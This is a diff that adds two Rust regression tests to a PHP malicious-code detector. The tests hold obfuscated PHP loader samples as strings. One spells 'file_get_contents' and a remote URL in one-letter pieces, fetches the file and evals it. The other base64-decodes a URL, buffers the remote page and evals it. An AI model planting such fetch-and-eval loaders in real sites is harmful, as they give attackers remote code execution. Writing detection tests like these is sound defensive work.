@@ -1690,3 +1690,25 @@ fn an_include_through_a_stream_of_the_files_own_is_hidden_code() {
     assert!(sinks("<?php include 'vfs://root/config.php';").is_empty());
     assert!(sinks("<?php include 'file:///var/www/x.php';").is_empty());
 }
+
+#[test]
+fn a_fetch_called_back_by_a_pieced_name_then_evaluated_is_found() {
+    // Regression: fresh162's `cobacoba.php` spells every name in one-letter pieces and calls
+    // them through `call_user_func`.
+    let src = "<?php $_u = 'h'.'t'.'t'.'p'.'s'.':'.'/'.'/'.'r'.'a'.'w'.'.'.'e'.'x'.'/'.'s'.'.'.'p'.'h'.'p';\n\
+               $_fget = 'f'.'i'.'l'.'e'.'_'.'g'.'e'.'t'.'_'.'c'.'o'.'n'.'t'.'e'.'n'.'t'.'s';\n\
+               $_out = @call_user_func($_fget, $_u);\n\
+               $_b64 = 'b'.'a'.'s'.'e'.'6'.'4'.'_'.'d'.'e'.'c'.'o'.'d'.'e';\n\
+               if ($_out !== false) { eval('?>' . call_user_func($_b64, base64_encode($_out))); }";
+    assert_eq!(sinks(src), [(Why::EvalOfDecoded, Danger::Critical)]);
+}
+
+#[test]
+fn a_page_printed_from_the_internet_into_a_buffer_then_run_is_code_from_the_internet() {
+    // Regression: fresh166's `base6644.php`.
+    let src = "<?php ob_start(); readfile(base64_decode('aHR0cHM6Ly9leGFtcGxlLm9yZy9hbGZhLnBocA==')); eval('?>' . ob_get_clean());";
+    assert!(sinks(src).iter().any(|(w, _)| *w == Why::CodeFromInternet), "{:?}", sinks(src));
+    // A template printed from a local file into a buffer and returned is not.
+    let local = "<?php ob_start(); readfile(__DIR__ . '/tpl.html'); $html = ob_get_clean(); echo $html;";
+    assert!(sinks(local).is_empty(), "{:?}", sinks(local));
+}
